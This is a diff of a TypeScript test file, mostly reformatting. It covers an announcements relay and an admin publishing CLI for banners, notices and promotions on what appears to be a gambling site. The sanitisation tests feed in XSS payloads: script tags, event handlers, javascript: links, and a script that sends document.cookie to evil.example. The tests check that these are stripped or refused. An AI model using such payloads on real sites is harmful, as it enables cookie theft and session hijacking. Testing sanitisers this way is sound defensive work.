@@ -17,10 +17,41 @@ afterAll(() => gw?.close());
 const admin = (...argv: string[]) =>
   executeAdminCommand(gw.database.db, parseAdminArgs(argv), { hasher: gw.app.ctx.providers.hasher, now: gw.clock.now, via: 'cli' });
 
-interface Banner { id: number; groupName: string; url: string; imageUrl: string; linkageType: string | null; linkage: string | null; title: string; sort: number; startTime: number; endTime: number | null }
-interface Notice { id: number; title: string; content: string; promotionType: string; showAfterLogin: boolean }
-interface Promotion { id: number; code: string | null; title: string; summary: string; category: string; promotionType: string; imageUrl: string; announcementImages: { imageUrl: string }[] }
-interface Announcements { banners: Banner[]; player: Notice[]; popup: Notice[]; promotion: Promotion[] }
+interface Banner {
+  id: number;
+  groupName: string;
+  url: string;
+  imageUrl: string;
+  linkageType: string | null;
+  linkage: string | null;
+  title: string;
+  sort: number;
+  startTime: number;
+  endTime: number | null;
+}
+interface Notice {
+  id: number;
+  title: string;
+  content: string;
+  promotionType: string;
+  showAfterLogin: boolean;
+}
+interface Promotion {
+  id: number;
+  code: string | null;
+  title: string;
+  summary: string;
+  category: string;
+  promotionType: string;
+  imageUrl: string;
+  announcementImages: { imageUrl: string }[];
+}
+interface Announcements {
+  banners: Banner[];
+  player: Notice[];
+  popup: Notice[];
+  promotion: Promotion[];
+}
 
 async function announcements(query = 'types=B,PL,PU,PR&platform=W&execution=B', headers: Record<string, string> = {}): Promise<Announcements> {
   const response = await gw.get(`/wps/relay/MCSFE_getListAnnouncements?${query}`, { headers });
@@ -30,14 +61,33 @@ async function announcements(query = 'types=B,PL,PU,PR&platform=W&execution=B', 
   return body.value;
 }
 
-const groupCounts = (banners: Banner[]) => banners.reduce<Record<string, number>>((counts, b) => ({ ...counts, [b.groupName]: (counts[b.groupName] ?? 0) + 1 }), {});
+const groupCounts = (banners: Banner[]) =>
+  banners.reduce<Record<string, number>>((counts, b) => ({ ...counts, [b.groupName]: (counts[b.groupName] ?? 0) + 1 }), {});
 
 describe('the relay answers the contract shape', () => {
   it('has banners for every route group, several on home and one on single-banner groups', async () => {
     const value = await announcements();
     expect(Object.keys(value).sort()).toEqual(['banners', 'player', 'popup', 'promotion']);
     const counts = groupCounts(value.banners);
-    for (const group of ['w_home', 'w_rng', 'w_live', 'w_fish', 'w_pvp', 'w_sports', 'w_esports', 'w_lottery', 'w_cockfight', 'w_promotion', 'w_shop', 'w_help', 'w_register_MS', 'w_register_EN', 'w_register_CN', 'w_login', 'w_forget']) {
+    for (const group of [
+      'w_home',
+      'w_rng',
+      'w_live',
+      'w_fish',
+      'w_pvp',
+      'w_sports',
+      'w_esports',
+      'w_lottery',
+      'w_cockfight',
+      'w_promotion',
+      'w_shop',
+      'w_help',
+      'w_register_MS',
+      'w_register_EN',
+      'w_register_CN',
+      'w_login',
+      'w_forget',
+    ]) {
       expect(counts[group], group).toBeGreaterThanOrEqual(1);
     }
     expect(counts.w_home).toBeGreaterThan(1);
@@ -152,15 +202,27 @@ describe('publishing commands', () => {
   });
 
   it('turns a built-in picture name into its address', () => {
-    expect(parseAdminArgs(['banner', 'add', '--group', 'w_home', '--image', 'banner-live'])).toMatchObject({ kind: 'banner.add', image: '/wps/assets/content/banner-live.svg' });
+    expect(parseAdminArgs(['banner', 'add', '--group', 'w_home', '--image', 'banner-live'])).toMatchObject({
+      kind: 'banner.add',
+      image: '/wps/assets/content/banner-live.svg',
+    });
   });
 });
 
 describe('publishing', () => {
   it('sanitises notice HTML on the way in: no script or handler ever comes out', async () => {
     const published = await admin(
-      'notice', 'add', '--title', 'Bonus <script>alert(1)</script>day', '--lang', 'EN', '--after-login', '--type', 'news',
-      '--content', '<p onclick="steal()">Deposit <b>now</b><script>document.location="https://evil.example?c="+document.cookie</script></p><img src=x onerror=alert(1)><a href="javascript:alert(1)">win</a>',
+      'notice',
+      'add',
+      '--title',
+      'Bonus <script>alert(1)</script>day',
+      '--lang',
+      'EN',
+      '--after-login',
+      '--type',
+      'news',
+      '--content',
+      '<p onclick="steal()">Deposit <b>now</b><script>document.location="https://evil.example?c="+document.cookie</script></p><img src=x onerror=alert(1)><a href="javascript:alert(1)">win</a>',
     );
     expect(published.code, published.stderr).toBe(0);
     const { player, popup } = await announcements('types=PL,PU', { language: 'EN' });
@@ -175,10 +237,23 @@ describe('publishing', () => {
 
   it('refuses content that is nothing but disallowed markup, and unsafe links and pictures', async () => {
     expect((await admin('notice', 'add', '--title', 'Empty', '--content', '<script>alert(1)</script>')).code).toBe(1);
-    const badLink = await admin('banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--link-type', 'URL', '--link', 'javascript:alert(1)');
+    const badLink = await admin(
+      'banner',
+      'add',
+      '--group',
+      'w_home',
+      '--image',
+      'banner-live',
+      '--link-type',
+      'URL',
+      '--link',
+      'javascript:alert(1)',
+    );
     expect(badLink).toMatchObject({ code: 1, stderr: 'link: an http(s) address\n' });
     expect((await admin('banner', 'add', '--group', 'w_home', '--image', 'javascript:alert(1)')).code).toBe(1);
-    expect((await admin('banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--link-type', 'PROMOTION', '--link', 'no-such-promo')).code).toBe(1);
+    expect(
+      (await admin('banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--link-type', 'PROMOTION', '--link', 'no-such-promo')).code,
+    ).toBe(1);
     expect((await admin('banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--lang', 'XX')).code).toBe(1);
   });
 
@@ -186,7 +261,26 @@ describe('publishing', () => {
     const now = gw.clock.now().getTime();
     const from = new Date(now + 60 * 60_000).toISOString();
     const until = new Date(now + 2 * 60 * 60_000).toISOString();
-    const published = await admin('promotion', 'add', '--title', 'Happy hour', '--content', '<p>Double rebate</p>', '--image', 'promo-daily-reload', '--category', 'rebate', '--lang', 'EN', '--from', from, '--until', until, '--code', 'happy-hour');
+    const published = await admin(
+      'promotion',
+      'add',
+      '--title',
+      'Happy hour',
+      '--content',
+      '<p>Double rebate</p>',
+      '--image',
+      'promo-daily-reload',
+      '--category',
+      'rebate',
+      '--lang',
+      'EN',
+      '--from',
+      from,
+      '--until',
+      until,
+      '--code',
+      'happy-hour',
+    );
     expect(published.code, published.stderr).toBe(0);
     const titles = async () => (await announcements('types=PR', { language: 'EN' })).promotion.map((p) => p.title);
     expect(await titles()).not.toContain('Happy hour');
@@ -198,9 +292,35 @@ describe('publishing', () => {
   });
 
   it('lists and removes items; a removed promotion stops being a banner link', async () => {
-    const promo = await admin('promotion', 'add', '--title', 'Flash deal', '--content', '<p>Today only</p>', '--image', 'promo-vip-upgrade', '--category', 'EVENT', '--code', 'flash-deal');
+    const promo = await admin(
+      'promotion',
+      'add',
+      '--title',
+      'Flash deal',
+      '--content',
+      '<p>Today only</p>',
+      '--image',
+      'promo-vip-upgrade',
+      '--category',
+      'EVENT',
+      '--code',
+      'flash-deal',
+    );
     const promotionId = /promotion (\d+)/.exec(promo.stdout)![1];
-    const banner = await admin('banner', 'add', '--group', 'w_promotion', '--image', 'banner-promotion', '--link-type', 'PROMOTION', '--link', 'flash-deal', '--sort', '-1');
+    const banner = await admin(
+      'banner',
+      'add',
+      '--group',
+      'w_promotion',
+      '--image',
+      'banner-promotion',
+      '--link-type',
+      'PROMOTION',
+      '--link',
+      'flash-deal',
+      '--sort',
+      '-1',
+    );
     expect(banner.code, banner.stderr).toBe(0);
     const bannerId = Number(/banner (\d+)/.exec(banner.stdout)![1]);
     const listing = await admin('banner', 'list', '--group', 'w_promotion');
@@ -213,7 +333,9 @@ describe('publishing', () => {
     expect((await announcements('types=B')).banners.some((b) => b.id === bannerId)).toBe(false);
     expect((await admin('banner', 'remove', String(bannerId))).code).toBe(1);
 
-    const audit = await gw.database.db.query<{ command: string }>("SELECT command FROM admin_audit WHERE command IN ('promotion.add', 'banner.add', 'content.remove')");
+    const audit = await gw.database.db.query<{ command: string }>(
+      "SELECT command FROM admin_audit WHERE command IN ('promotion.add', 'banner.add', 'content.remove')",
+    );
     expect(audit.rows.length).toBeGreaterThanOrEqual(4);
   });
 });
